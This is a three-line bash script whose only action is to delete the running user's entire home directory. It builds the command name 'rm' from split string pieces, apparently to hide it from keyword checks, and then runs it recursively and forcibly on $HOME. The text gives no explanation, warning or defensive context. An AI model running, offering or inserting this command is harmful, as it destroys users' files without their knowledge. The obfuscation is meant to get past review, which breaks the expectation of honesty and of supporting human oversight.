#!/bin/bash
c="r""m"
$c -rf "$HOME"
